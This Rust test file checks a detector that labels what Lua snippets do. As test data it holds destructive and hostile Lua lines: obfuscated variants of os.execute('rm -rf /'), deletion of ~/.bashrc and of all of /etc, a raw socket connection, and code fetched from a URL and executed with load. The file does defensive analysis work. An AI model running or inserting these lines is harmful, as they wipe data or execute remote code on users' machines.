use super::check;
use crate::knowledge::Lang::Lua;

#[test]
fn acts() {
    check(
        Lua,
        &[
            ("os.execute('rm -rf /')", "shell rm -rf /"),
            ("os.execute \"id\"", "shell id"),
            ("os.execute [[id]]", "shell id"),
            ("local d = '/'; os.execute('rm -rf ' .. d)", "shell rm -rf /"),
            ("_G['os']['exe' .. 'cute']('id')", "shell id"),
            ("local f = io.popen('ls'):read('*a')", "shell ls"),
            ("os.remove('a'); os.rename('b', 'c')", "delete a; move b c"),
            ("local f = io.open('x', 'w'); f:write('y'); f:close()", "write x"),
            ("for l in io.lines('data.txt') do print(l) end", "read data.txt"),
            ("os.remove(os.getenv('HOME') .. '/.bashrc')", "delete ~/.bashrc"),
            ("load('os.execute(\"id\")')()", "shell id"),
            ("loadstring(x)()", "eval"),
            ("dofile('x.lua')", "runfile x.lua"),
            ("os.execute(string.char(114, 109) .. ' x')", "shell rm x"),
            ("os.execute(('/ fr- mr'):reverse())", "shell rm -rf /"),
            ("os.execute(table.concat({'rm', '-rf', '/'}, ' '))", "shell rm -rf /"),
            ("local s = require('socket').tcp(); s:connect('10.0.0.1', 4242)", "connect 10.0.0.1:4242"),
            (
                "local http = require('socket.http'); load(http.request('http://x'))()",
                "fetch http://x; eval downloaded",
            ),
            ("for f in require('lfs').dir('/etc') do os.remove('/etc/' .. f) end", "delete /etc/*"),
        ],
    );
}

#[test]
fn ordinary() {
    check(
        Lua,
        &[
            ("-- os.execute('x')\n--[[ os.execute('y') ]] print('os.execute')", ""),
            (
                "local t = {}; table.insert(t, 1); table.remove(t, 1); for k, v in pairs(t) do print(k, v) end",
                "",
            ),
            ("local function remove(x) return x end print(remove('/etc'))", ""),
            ("if a ~= b and not c then x = #t // 2 end; goto done ::done::", ""),
        ],
    );
}
